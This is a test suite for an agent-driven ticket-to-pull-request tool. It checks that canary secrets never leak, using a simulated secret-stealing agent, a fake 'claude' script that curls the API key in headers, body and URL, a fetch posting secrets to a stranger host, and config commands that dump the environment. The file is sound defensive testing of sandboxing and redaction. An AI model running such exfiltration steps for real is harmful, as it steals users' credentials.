// Canaries for every secret in every job's environment, an agent that takes what it can reach, and a world that repeats what it
// was told: however a job ends, none of them is in anything it leaves or sends, but in the one header it is meant for.
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  findCanaries,
  type Hosts,
  loginsSeen,
  privateSinks,
  publicSinks,
  SECRET_ENV,
  SECRET_INPUTS,
  SECRETS,
  sinkOf,
  sinksOfRun,
  spellings,
  startHosts,
} from "../helpers/canaries.ts";
import { whyNoCells } from "../helpers/cells.ts";
import { type ActionEnd, tempDir } from "../helpers/runner.ts";
import type { Sink } from "../helpers/sinks.ts";
import type { Spoil, Spoiled, Tapped } from "../helpers/tap.ts";
import { type Scene, type SceneOptions, startWorld, type World } from "../helpers/world.ts";
import { pack } from "../workflows/archive.ts";

const THIEF = readFileSync(new URL("../fixtures/agents/thief.sh", import.meta.url), "utf8");
const TAKE_ARTIFACT = path.resolve(import.meta.dirname, "../../scripts/take-artifact.sh");
const noCells = await whyNoCells();
const skipped = noCells === undefined ? "" : ` (skipped: ${noCells})`;
/** Where cells can be made, everything that does not say otherwise runs in one. */
const ISOLATION = noCells === undefined ? "sandbox" : "none";

let world: World;
beforeAll(async () => {
  world = await startWorld();
});
afterAll(() => world[Symbol.asyncDispose]());

type Job = "prepare" | "work" | "verify" | "deliver" | "poll" | "reconcile" | "all";
interface Given {
  readonly scene?: SceneOptions;
  readonly isolation?: "sandbox" | "none";
  /** A shell command line; the thief when left out. */
  readonly agent?: string;
  readonly inputs?: Readonly<Record<string, string>>;
  readonly env?: Readonly<Record<string, string>>;
  /** In force from `spoil()` on. */
  readonly spoil?: Partial<Record<"linear" | "github" | "git", Spoil>>;
}
interface Play extends AsyncDisposable {
  readonly scene: Scene;
  readonly hosts: Hosts;
  readonly at: (...names: string[]) => string;
  readonly run: (
    job: Job,
    more?: { inputs?: Readonly<Record<string, string>>; payload?: unknown },
  ) => Promise<ActionEnd>;
  readonly spoil: () => void;
  /** What anybody outside of the machine can see. */
  readonly shown: () => Promise<Sink[]>;
  /** Likewise, and everything on its disk. */
  readonly left: () => Promise<Sink[]>;
}

/** A scene whose servers are all tapped, and its jobs, each in a folder of its own and each with every secret there is. */
async function play({
  scene: options,
  isolation = ISOLATION,
  agent,
  inputs,
  env,
  spoil = {},
}: Given = {}): Promise<Play> {
  const scene = await world.scene({
    tickets: [{ key: "ENG-1", title: "Say hello", description: "Add src/hello.js.", state: "In Progress" }],
    ...options,
    linearKey: SECRETS.linear,
    files: { "thief.sh": THIEF, ...options?.files },
  });
  let isSpoilt = false;
  const armed =
    (bad: Spoil | undefined): Spoil =>
    (request) =>
      isSpoilt ? bad?.(request) : undefined;
  const { linear, github, git } = spoil;
  const hosts = await startHosts(scene, { linear: armed(linear), github: armed(github), git: armed(git) });
  const at = (...names: string[]) => path.join(scene.dir, "jobs", ...names);
  const said: Sink[] = [];

  const run: Play["run"] = async (job, more = {}) => {
    const ended = await scene.run({
      agent: agent ?? `HOSTS='${strangers(hosts)}' sh thief.sh`,
      runnerDir: at(job),
      // There is no checkout anywhere near the job that delivers.
      workspace: job === "deliver" ? scene.dir : scene.checkout.dir,
      ...(more.payload === undefined ? {} : { payload: more.payload }),
      inputs: {
        ...SECRET_INPUTS,
        "linear-api-url": `${hosts.linear.url}/graphql`,
        isolation,
        ...inputsOf(job, scene, at),
        ...inputs,
        ...more.inputs,
      },
      env: {
        ...SECRET_ENV,
        GITHUB_API_URL: hosts.github.url,
        GITHUB_SERVER_URL: hosts.git.url,
        ANTHROPIC_BASE_URL: hosts.model.url,
        ...env,
      },
    });
    said.push(...sinksOfRun(ended, job));
    return ended;
  };
  const shown = async () => [...said, ...(await publicSinks(scene, hosts))];
  return {
    ...{ scene, hosts, at, run, shown },
    spoil: () => {
      isSpoilt = true;
    },
    left: async () => [...(await shown()), ...(await privateSinks(scene))],
    async [Symbol.asyncDispose]() {
      await hosts[Symbol.asyncDispose]();
      await scene[Symbol.asyncDispose]();
    },
  };
}

/** Where the thief tries to take its loot; without a cell nobody promises that it cannot. */
function strangers({ linear, github, git, model, stranger }: Hosts): string {
  return ISOLATION === "sandbox" ? [linear, github, git, model, stranger].map(({ url }) => url).join(" ") : "";
}

function inputsOf(job: Job, scene: Scene, at: Play["at"]): Record<string, string> {
  const plan = at("plan.json");
  const jobs: Record<Job, Record<string, string>> = {
    prepare: { to: plan },
    work: { from: plan, task: scene.key, to: at("outbox") },
    verify: { from: at("outbox"), to: at("verified") },
    deliver: {
      ...{ bare: "true", plan, task: scene.key, from: at("verified") },
      ...{ "agent-result": "success", "verify-result": "success" },
    },
    poll: {},
    reconcile: {},
    all: {},
  };
  return { stage: job, ...jobs[job] };
}

const WALK: readonly Job[] = ["prepare", "work", "verify", "deliver"];

async function walk(played: Play, jobs: readonly Job[]): Promise<ActionEnd[]> {
  const ends: ActionEnd[] = [];
  for (const job of jobs) ends.push(await played.run(job));
  return ends;
}

describe("the search itself", () => {
  it.each(spellings(SECRETS.unrelated))("finds a secret written as %s", (spelling, text) => {
    const found = findCanaries([{ name: "log", text: `before ${text} after` }]);
    expect(found).toContain(`log: unrelated as ${spelling}`);
    expect(findCanaries([{ name: "log", text: `before ${text.slice(1, -2)} after` }])).not.toContain(found[0]);
  });

  it.each([0, 1, 2])("finds every secret in base64 that was wrapped into lines, %i bytes into it", (shift) => {
    const loot = `${"x".repeat(shift)}A=1\n${Object.values(SECRETS).join("\n")}\n`;
    const text = Buffer.from(loot).toString("base64").replace(/.{76}/g, "$&\n");
    const found = findCanaries([{ name: "log", text }]).join("\n");
    for (const name of Object.keys(SECRETS)) expect(found).toContain(`log: ${name} as base64`);
  });

  it("finds what lies in a file, a file's name, an object nobody refers to, a bundle, a comment, a draft and a request", async () => {
    await using played = await play();
    const { scene, hosts, at } = played;
    expect(findCanaries(await played.left())).toEqual([]);
    await mkdir(at("deep"), { recursive: true });
    await writeFile(at("deep", `of-${SECRETS.webhook}`), "");
    await writeFile(at("deep", "note"), SECRETS.model);
    await writeFile(at("deep", "secret"), SECRETS.appKey);
    await scene.repository.git("hash-object", "-w", at("deep", "secret"));
    await scene.checkout.commit({ "a.txt": SECRETS.runtime });
    await scene.checkout.git("bundle", "create", "--quiet", at("deep", "work.bundle"), "main~1..main", "main");
    await scene.checkout.git("push", "--quiet", `file://${scene.repository.dir}`, "main:taken");
    await scene.github.asPerson("POST", `/repos/${scene.slug}/pulls`, {
      ...{ title: SECRETS.idToken, head: "taken", base: "main" },
    });
    await fetch(`${hosts.stranger.url}/?q=${encodeURIComponent(SECRETS.webhook)}`, {
      ...{ method: "POST", headers: { authorization: SECRETS.linear }, body: SECRETS.model },
    });
    const found = findCanaries(await played.left());
    expect(found).toEqual(
      expect.arrayContaining([
        "names of files: webhook as itself",
        "jobs/deep/note: model as itself",
        "repository: objects: appKey as itself",
        "repository: objects: runtime as itself",
        expect.stringMatching(/work\.bundle: heads and objects: runtime as itself$/),
        "pull requests: idToken as itself",
        "request to stranger: webhook as URL",
        "request to stranger: linear as itself",
        "request to stranger: model as itself",
      ]),
    );
  });

  it("lets a secret pass in its own header to its own host only", () => {
    const request = (host: string, headers: Tapped["headers"], body = ""): Tapped =>
      ({ host, line: "POST /", headers, body: Buffer.from(body) }) as const;
    const searched = (one: Tapped) => findCanaries([sinkOf(one)]);
    const own = { authorization: SECRETS.linear };
    expect(searched(request("linear", own))).toEqual([]);
    expect(loginsSeen([request("linear", own), request("github", own)])).toEqual({ linear: 1 });
    expect(searched(request("github", own))).toContain("request to github: linear as itself");
    expect(searched(request("linear", own, SECRETS.linear))).toContain("request to linear: linear as itself");
    expect(searched(request("linear", { "x-more": SECRETS.linear }))).not.toEqual([]);
  });
});

describe.concurrent("a thief in a cell, which finds nothing", { timeout: 60_000 }, () => {
  it.skipIf(noCells !== undefined)(`on the way of a ticket through all jobs${skipped}`, async () => {
    await using played = await play();
    const ends = await walk(played, [...WALK, "reconcile", "poll"]);
    expect(ends.map(({ exitCode }) => exitCode)).toEqual([0, 0, 0, 0, 0, 0]);
    expect(ends[3]?.outputs.outcome).toBe("delivered");
    expect(await played.scene.changed()).toEqual(expect.arrayContaining(["A\tsrc/hello.js", "A\tsrc/loot.js"]));
    expect(findCanaries(await played.left())).toEqual([]);
    // Each secret was used where it belongs, and nothing of the cell got out at all.
    const seen = loginsSeen(played.hosts.requests());
    expect(Object.keys(seen).sort()).toEqual(["git", "github", "linear"]);
    expect(played.hosts.stranger.requests).toEqual([]);
  });

  it.skipIf(noCells !== undefined)(`in one job that does it all${skipped}`, async () => {
    await using played = await play();
    const { outputs } = await played.run("all");
    expect(outputs.outcome).toBe("delivered");
    expect(findCanaries(await played.left())).toEqual([]);
  });

  it.skipIf(noCells !== undefined)(
    `but a stand-in for the model's key, which opens the model's door alone${skipped}`,
    async () => {
      await using tools = await fakeClaude();
      await using played = await play({
        inputs: { agent: "claude", "agent-command": "" },
        env: { PATH: `${tools.path}:${process.env.PATH ?? ""}` },
      });
      const ends = await walk(played, WALK);
      expect(ends.at(-1)?.outputs.outcome, ends.map(({ log }) => log).join("\n")).toBe("delivered");
      expect(findCanaries(await played.left())).toEqual([]);
      expect(loginsSeen(played.hosts.model.requests).model).toBeGreaterThan(0);
      expect(played.hosts.stranger.requests).toEqual([]);
    },
  );
});

/** A program named `claude` that speaks as it does, knocks at the model's door with the key it was given, and steals. */
async function fakeClaude(): Promise<{ readonly path: string } & AsyncDisposable> {
  const folder = await tempDir("tools");
  const knock = `curl --silent --header "x-api-key: $ANTHROPIC_API_KEY" --header "x-more: $ANTHROPIC_API_KEY"`;
  const lines = [
    { type: "system", subtype: "init", session_id: "1", model: "m", claude_code_version: "2.1.329" },
    {
      type: "result",
      subtype: "success",
      is_error: false,
      terminal_reason: "completed",
      num_turns: 1,
      result: "LOOT",
      session_id: "1",
    },
  ].map((line) => JSON.stringify(line));
  const script = `#!/bin/sh
case $1 in --version) echo 2.1.329; exit;; esac
printf '%s\\n' '${lines[0]}'
${knock} --data "$ANTHROPIC_API_KEY" "$ANTHROPIC_BASE_URL/v1/messages?k=$ANTHROPIC_API_KEY"
sh thief.sh
printf '%s\\n' '${lines[1]}' | sed "s/LOOT/Done with $ANTHROPIC_API_KEY/"
`;
  await writeFile(path.join(folder.path, "claude"), script);
  await chmod(path.join(folder.path, "claude"), 0o755);
  return folder;
}

describe.concurrent("a thief without a cell", { timeout: 60_000 }, () => {
  const inWords = "HIDE=files sh thief.sh";

  it("whose words are all that carry it, on the way through all jobs", async () => {
    await using played = await play({ isolation: "none", agent: inWords });
    const ends = await walk(played, [...WALK, "reconcile", "poll"]);
    expect(ends.map(({ exitCode }) => exitCode)).toEqual([0, 0, 0, 0, 0, 0]);
    expect(findCanaries(await played.left())).toEqual([]);
    // It did find them.
    const transcript = await readFile(played.at("work/.linear-to-pr/transcripts/eng-1-round-1-try-1.jsonl"), "utf8");
    expect(transcript).toContain("INPUT_LINEAR-API-KEY=***");
    expect(transcript).toContain("DEPLOY_PASSWORD=***");
  });

  it("that hides it in the repository's files is refused, and nothing is published", async () => {
    await using played = await play({ isolation: "none", agent: "sh thief.sh" });
    const { outputs } = await played.run("all");
    expect(outputs.outcome).toBe("refused");
    expect(await played.scene.branches()).toEqual(["main"]);
    expect(findCanaries(await played.shown())).toEqual([]);
  });

  it("that hides it in the files of an agent's job of its own has nothing handed on", async () => {
    await using played = await play({ isolation: "none", agent: "sh thief.sh" });
    const [, worked] = await walk(played, ["prepare", "work"]);
    expect(worked?.outputs.decision).toBe("stop");
    const { outputs } = await played.run("deliver", {
      inputs: { from: played.at("outbox"), "verify-result": "skipped" },
    });
    expect(outputs.outcome).toBe("refused");
    expect(findCanaries(await played.shown())).toEqual([]);
    const handedOn = (await privateSinks(played.scene)).filter(({ name }) => name.startsWith("jobs/outbox"));
    expect(handedOn.map(({ name }) => name)).toContain("jobs/outbox/verdict.json");
    expect(findCanaries(handedOn)).toEqual([]);
  });
});

/** Everything a server was told, in many spellings, as its answer. */
function repeated({ headers, body }: Tapped): string {
  const login = headers.authorization ?? "";
  const secret = login.split(" ").at(-1) ?? "";
  const plain = login.startsWith("Basic ") ? Buffer.from(secret, "base64").toString() : secret;
  const base64 = ["", "x", "xx"].map((before) => Buffer.from(before + plain).toString("base64"));
  const bare = plain.replace(/^[^:]*:/, "");
  return [
    login,
    ...base64,
    plain,
    encodeURIComponent(bare),
    bare,
    JSON.stringify(bare),
    body.toString("latin1", 0, 50),
  ].join(" ");
}

/** Linear's shape. */
function linearSays(status: number, code: string): Spoil {
  return (request) => ({
    status,
    headers: { "retry-after": "300", "x-echo": request.headers.authorization ?? "" },
    body: JSON.stringify({
      errors: [
        {
          message: repeated(request),
          extensions: { code, statusCode: status, userPresentableMessage: repeated(request) },
        },
      ],
    }),
  });
}

/** The first time; then the key is not known any more, which ends it without further waits. */
function once(bad: Spoil): Spoil {
  let times = 0;
  return (request) => {
    times += 1;
    return times === 1 ? bad(request) : linearSays(401, "AUTHENTICATION_ERROR")(request);
  };
}

/** GitHub's shape. */
function githubSays(status: number, matching = /./): Spoil {
  return (request) => {
    if (!matching.test(request.line)) return undefined;
    const problem = { message: repeated(request), resource: repeated(request), field: "x", code: "custom" };
    const headers = { "x-accepted-github-permissions": repeated(request).slice(0, 400) };
    return { status, headers, body: JSON.stringify({ message: repeated(request), errors: [problem] }) };
  };
}

function gitSays(status: number, matching = /./): Spoil {
  return (request): Spoiled | undefined =>
    matching.test(request.line)
      ? { status, headers: { "content-type": "text/plain" }, body: `${repeated(request)}\n` }
      : undefined;
}

const opensPull = /^POST \/repos\/.*\/pulls$/;
const isPush = /git-receive-pack/;
const isMutation: Record<"linear", (spoil: Spoil) => Spoil> = {
  linear: (spoil) => (request) => (request.body.includes("mutation") ? spoil(request) : undefined),
};

interface Case extends Given {
  readonly name: string;
  /** The last one is to fail; those before it end well. */
  readonly jobs: readonly Job[];
  /** Done to the world before the last job; what it returns is added to that job's inputs. */
  readonly before?: (played: Play) => Promise<Readonly<Record<string, string>> | undefined>;
  readonly exitCode: number | null;
  readonly outcome?: string;
  /** In the log, to show that it ended for the reason that is meant. */
  readonly words: RegExp;
}

/** Half of a file. */
async function tear(file: string): Promise<void> {
  const bytes = await readFile(file);
  await writeFile(file, bytes.subarray(0, bytes.length / 2));
}

const PREPARED: readonly Job[] = ["prepare", "work", "verify"];
const CASES: readonly Case[] = [
  {
    ...{
      name: "a configuration that is wrong",
      jobs: ["all"],
      exitCode: 2,
      outcome: "failed",
      words: /CONFIG_INVALID/,
    },
    scene: { config: "verify: { debug: loud }\n" },
  },
  {
    ...{ name: "a configuration that hands a key on by name", jobs: ["prepare"], exitCode: 2, words: /CONFIG_INVALID/ },
    scene: { run: "{ env: [LINEAR_API_KEY, ACTIONS_RUNTIME_TOKEN] }" },
  },
  {
    ...{ name: "inputs that are wrong, keys among them", jobs: ["all"], exitCode: 2, words: /INPUT_INVALID/ },
    inputs: { slots: "many", "linear-api-url": "no url" },
  },
  {
    ...{
      name: "a Linear that does not know the key and repeats it",
      jobs: ["prepare"],
      exitCode: 2,
      words: /LINEAR_UNAUTHORIZED/,
    },
    spoil: { linear: linearSays(401, "AUTHENTICATION_ERROR") },
  },
  {
    ...{ name: "a Linear that breaks and repeats it", jobs: ["reconcile"], exitCode: 3, words: /LINEAR_UNAVAILABLE/ },
    spoil: { linear: linearSays(500, "INTERNAL_SERVER_ERROR") },
  },
  {
    ...{
      name: "a Linear that refuses every comment and repeats the key",
      jobs: ["all"],
      exitCode: 2,
      outcome: "delivered",
    },
    ...{
      words: /report-failed.*\n?[\s\S]*LINEAR_REJECTED/,
      spoil: { linear: isMutation.linear(linearSays(400, "INPUT_ERROR")) },
    },
  },
  {
    ...{ name: "a Linear that answers with torn JSON", jobs: ["poll"], exitCode: 2, words: /linear-retry/ },
    spoil: {
      linear: once((request) => ({ status: 503, body: `{"errors":[{"message":"${repeated(request)}` })),
    },
  },
  {
    ...{ name: "a Linear that cuts the line", jobs: ["prepare"], exitCode: 2, words: /linear-retry/ },
    spoil: { linear: once(() => "reset") },
  },
  ...([["prepare"], ["poll"], ["reconcile"]] as const).map(
    ([job], index): Case => ({
      name: `a GitHub that answers ${job} with ${[401, 403, 422][index]} and repeats the token`,
      jobs: [job],
      ...(job === "prepare" ? { outcome: "failed" } : {}),
      exitCode: 2,
      words: [/GITHUB_UNAUTHORIZED/, /GITHUB_FORBIDDEN/, /GITHUB_REJECTED/][index] ?? /never/,
      spoil: { github: githubSays([401, 403, 422][index] ?? 0) },
    }),
  ),
  ...([401, 403, 422, 500] as const).map(
    (status, index): Case => ({
      name: `a GitHub that answers the draft with ${status} and repeats the token`,
      jobs: status === 403 ? [...PREPARED, "deliver"] : ["all"],
      exitCode: status === 500 ? 3 : 2,
      outcome: "failed",
      words: [/GITHUB_UNAUTHORIZED/, /GITHUB_FORBIDDEN/, /GITHUB_REJECTED/, /GITHUB_UNAVAILABLE/][index] ?? /never/,
      spoil: { github: githubSays(status, opensPull) },
    }),
  ),
  {
    ...{ name: "a GitHub that is a page that repeats the token", jobs: ["all"], exitCode: 3, outcome: "failed" },
    words: /GITHUB_UNAVAILABLE/,
    spoil: {
      github: (request) =>
        opensPull.test(request.line)
          ? { status: 200, headers: { "content-type": "text/html" }, body: `<p>${repeated(request)}</p>` }
          : undefined,
    },
  },
  ...(["all", "deliver"] as const).map(
    (job): Case => ({
      name: `a push in ${job} that is rejected with the remote's address and login`,
      jobs: job === "all" ? ["all"] : [...PREPARED, job],
      ...{ exitCode: 2, outcome: "failed", words: /GIT_PUSH_REJECTED/ },
      before: async ({ scene, hosts }) => {
        const { host } = new URL(hosts.git.url);
        const login = `x-access-token:${SECRETS.github}`;
        const shifted = Buffer.from(`xx${SECRETS.github}`).toString("base64");
        await scene.repository.rejectPushes(
          `http://${login}@${host}/x.git ${SECRETS.github}\n${Buffer.from(login).toString("base64")} ${shifted}`,
        );
        return undefined;
      },
    }),
  ),
  {
    ...{
      name: "a git server that lets nobody in and repeats the login",
      jobs: ["all"],
      exitCode: 2,
      outcome: "failed",
    },
    ...{ words: /GIT_UNAUTHORIZED/, spoil: { git: gitSays(403, isPush) } },
  },
  {
    ...{
      name: "a git server that breaks and repeats the login",
      jobs: ["all"],
      exitCode: 3,
      outcome: "failed",
    },
    ...{ words: /GIT_UNAVAILABLE/, spoil: { git: gitSays(500, isPush) } },
  },
  {
    ...{
      name: "an agent that breaks off with its loot as last words",
      jobs: ["all"],
      exitCode: 4,
      outcome: "agent-crashed",
    },
    ...{ words: /outcome=crashed/, isolation: "none", agent: "HIDE=files THIEF_EXIT=1 sh thief.sh" },
  },
  {
    ...{ name: "an agent that is killed after it said it all", jobs: ["all"], exitCode: 4, outcome: "agent-crashed" },
    ...{ words: /outcome=crashed/, isolation: "none", agent: "HIDE=files sh thief.sh; kill -KILL $$" },
  },
  {
    ...{ name: "an agent that says it all and never ends", jobs: ["all"], exitCode: 4, outcome: "timed-out" },
    ...{ words: /outcome=timed-out/, isolation: "none", agent: "HIDE=files sh thief.sh; sleep 60" },
    scene: { run: "{ timeoutMinutes: 0.1, stallMinutes: 0.1 }" },
  },
  {
    ...{ name: "an agent that is not there", jobs: ["prepare", "work"], exitCode: 2, words: /AGENT_NOT_FOUND/ },
    ...{ isolation: "none", agent: "canary-of-a-program $ANTHROPIC_API_KEY" },
  },
  ...(["all", "work"] as const).map(
    (job): Case => ({
      name: `a check in ${job} that is red and prints its environment`,
      jobs: job === "all" ? ["all"] : ["prepare", "work"],
      ...(job === "all" ? { exitCode: 4, outcome: "refused" } : { exitCode: 0 }),
      ...{ words: /decision=stop/, isolation: "none", agent: "cat > /dev/null; echo 1 > src/one.js" },
      scene: {
        config:
          "verify: { commands: [{ name: spy, run: 'HIDE=files sh thief.sh < README.md; exit 1', level: strict }] }\nfix: { rounds: 0 }\n",
      },
    }),
  ),
  {
    ...{
      name: "a set-up that fails and prints its environment",
      jobs: ["prepare", "work"],
      exitCode: 2,
      words: /SETUP_FAILED/,
    },
    isolation: "none",
    scene: { config: "scaffold: { setup: 'HIDE=files sh thief.sh < README.md; exit 1' }\n" },
  },
  {
    ...{ name: "a plan that is torn", jobs: ["prepare", "work"], exitCode: 2, words: /ARTEFACT_INVALID/ },
    before: async ({ at }) => void (await tear(at("plan.json"))),
  },
  {
    ...{
      name: "an agent's job that is killed in the middle",
      jobs: ["prepare", "work"],
      exitCode: null,
      words: /scaffold/,
    },
    ...{ isolation: "none", agent: "HIDE=files sh thief.sh; kill -KILL $PPID" },
  },
  {
    ...{ name: "one job that is killed in the middle", jobs: ["all"], exitCode: null, words: /scaffold/ },
    ...{ isolation: "none", agent: "HIDE=files sh thief.sh; kill -KILL $PPID" },
  },
  {
    ...{
      name: "a job that is cancelled in the middle",
      jobs: ["all"],
      exitCode: 3,
      outcome: "cancelled",
      words: /cancelled/,
    },
    ...{ isolation: "none", agent: "HIDE=files sh thief.sh; kill -TERM $PPID; sleep 60" },
  },
];

describe.concurrent("no secret is left behind by", { timeout: 60_000 }, () => {
  it.each(CASES)("$name", async ({ jobs, before, exitCode, outcome, words, ...given }) => {
    await using played = await play(given);
    const earlier = await walk(played, jobs.slice(0, -1));
    expect(earlier.map((ended) => ended.exitCode)).toEqual(earlier.map(() => 0));
    played.spoil();
    const more = (await before?.(played)) ?? {};
    const ended = await played.run(jobs.at(-1) ?? "all", { inputs: more });
    expect(
      { exitCode: ended.exitCode, ...(outcome === undefined ? {} : { outcome: ended.outputs.outcome }) },
      ended.log,
    ).toEqual({
      exitCode,
      ...(outcome === undefined ? {} : { outcome }),
    });
    expect(ended.log).toMatch(words);
    expect(findCanaries(await played.left())).toEqual([]);
  });

  it("a job that delivers, whatever was done to what it is handed", async () => {
    await using played = await play();
    const { at, run } = played;
    await walk(played, PREPARED);
    const judge = async (inputs: Readonly<Record<string, string>>, expected: Pick<Case, "exitCode" | "words">) => {
      const { exitCode, log } = await run("deliver", { inputs });
      expect({ exitCode, log }).toEqual({ exitCode: expected.exitCode, log: expect.stringMatching(expected.words) });
    };
    for (const name of ["verified/verdict.json", "verified/work.bundle", "plan.json"]) {
      const whole = await readFile(at(name));
      await tear(at(name));
      await judge({}, { exitCode: 2, words: /ARTEFACT_INVALID/ });
      await writeFile(at(name), whole);
    }
    await mkdir(at("fetched"));
    await writeFile(
      at("fetched/any.zip"),
      pack([{ name: "verdict.json", text: await readFile(at("verified/verdict.json"), "utf8") }]),
    );
    const taken = spawnSync(TAKE_ARTIFACT, [at("fetched"), "0".repeat(64), at("taken"), "verdict.json"], {
      env: { PATH: process.env.PATH ?? "", ...SECRET_ENV },
      ...{ encoding: "utf8", timeout: 20_000 },
    });
    expect(taken).toMatchObject({ status: 1, stderr: expect.stringContaining("its digest is not the one") });
    await judge({ from: at("taken") }, { exitCode: 3, words: /JOB_LOST/ });
    expect(
      findCanaries([...(await played.left()), { name: "take-artifact", text: taken.stdout + taken.stderr }]),
    ).toEqual([]);
  });

  it("a run that follows one that was killed, and the end that a lost job is given", async () => {
    await using played = await play({ isolation: "none", agent: "HIDE=files sh thief.sh; kill -KILL $PPID" });
    const [, worked] = await walk(played, ["prepare", "work"]);
    expect(worked?.exitCode).toBe(null);
    const lost = await played.run("deliver", { inputs: { from: played.at("outbox"), "agent-result": "failure" } });
    expect(lost.outputs.outcome).toBe("failed");
    expect(lost.log).toContain("JOB_LOST");
    expect(findCanaries(await played.left())).toEqual([]);
  });
});
